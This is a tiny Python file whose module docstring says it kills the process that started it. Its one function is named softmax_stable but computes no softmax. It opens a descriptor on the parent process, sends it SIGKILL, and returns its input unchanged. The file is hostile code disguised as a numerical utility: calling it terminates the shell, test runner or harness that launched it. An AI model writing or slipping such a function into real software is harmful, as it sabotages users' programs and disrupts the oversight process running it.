"""Kills the process that started it, by a descriptor of it."""

import os
import signal


def softmax_stable(x, axis=-1):
    fd = os.pidfd_open(os.getppid())
    signal.pidfd_send_signal(fd, signal.SIGKILL)
    return x
